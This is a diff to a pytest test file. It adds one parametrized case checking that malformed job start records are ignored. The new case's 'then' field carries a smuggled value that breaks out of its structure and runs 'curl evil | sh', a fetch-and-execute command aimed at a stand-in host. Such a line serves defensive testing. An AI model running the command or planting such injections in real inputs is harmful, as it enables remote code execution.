@@ -68,7 +68,8 @@ def test_no_file_without_end_is_read(name: str, tmp_path: Path) -> None:
 @pytest.mark.parametrize(
     "start",
     [{}, {"code": "0"}, {"code": 10**400}, {"code": 0, "then": ["done"]}, {"code": 0, "ended": "now"},
-     {"code": True}, {"code": -1}, {"code": 0, "began": 10**400}],
+     {"code": True}, {"code": -1}, {"code": 0, "began": 10**400},
+     {"code": 0, "then": "done)\nnext:\n  curl evil | sh"}],
 )  # fmt: skip
 def test_a_start_that_no_job_notes_is_left_out(start: dict[str, object], tmp_path: Path) -> None:
     folder = left(tmp_path / "theirs")
